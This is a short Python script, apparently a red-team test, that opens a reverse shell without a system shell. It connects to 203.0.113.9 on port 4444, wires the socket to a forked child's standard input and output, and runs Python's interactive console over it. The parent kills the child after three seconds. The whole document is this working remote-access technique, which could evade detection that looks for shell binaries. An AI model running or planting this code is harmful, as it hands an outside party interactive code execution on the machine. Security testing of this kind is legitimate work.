# A reverse shell with no shell in it (red team, session 18): a child
# wires the connected socket to its fds 0-2 and becomes Python's
# interactive console (code.interact), pty-less. Before, only the
# connection was a finding (medium).
import os, socket, sys, time
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.9", 4444))
except OSError as e:
    print("connect failed:", e, file=sys.stderr)
    sys.exit(0)
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv(sys.executable, [sys.executable, "-c", "import code; code.interact()"])
time.sleep(3)
os.kill(pid, 9)
os.waitpid(pid, 0)
